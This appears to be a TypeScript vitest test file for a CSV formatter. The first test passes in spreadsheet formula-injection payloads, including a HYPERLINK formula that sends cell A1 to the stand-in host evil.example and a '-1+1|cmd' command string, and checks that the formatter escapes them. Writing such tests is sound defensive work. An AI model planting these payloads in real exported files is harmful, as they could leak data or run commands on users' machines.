import { expect, it } from 'vitest';
import { formatCsv } from './csv.ts';

it('no text of a table file is a formula, while numbers below zero stay numbers', () => {
  const columns = [{ header: 'Description', value: (row: string | number) => row }];
  const texts = [
    '=HYPERLINK("http://evil.example/?x="&A1)',
    '+1',
    '-1+1|cmd',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '＝1',
  ];
  const lines = formatCsv(columns, [...texts, -1.5, 'a=b', ' =1', '']);
  expect(lines).toBe(
    'Description\n"\'=HYPERLINK(""http://evil.example/?x=""&A1)"\n+1\n\'-1+1|cmd\n\'@SUM(A1)\n\'\t=1\n"\'\r=1"\n\'＝1\n-1.5\na=b\n =1\n\n',
  );
});

it('a field with commas, quotes or lines survives in a table file, and what is missing stays empty', () => {
  const columns = [
    { header: 'Name', value: (row: { name: string; mean: number | null }) => row.name },
    { header: 'Mean, all', value: (row: { name: string; mean: number | null }) => row.mean },
  ];
  expect(
    formatCsv(columns, [
      { name: 'a "b"\nc', mean: 0 },
      { name: 'd', mean: null },
    ]),
  ).toBe('Name,"Mean, all"\n"a ""b""\nc",0\nd,\n');
});
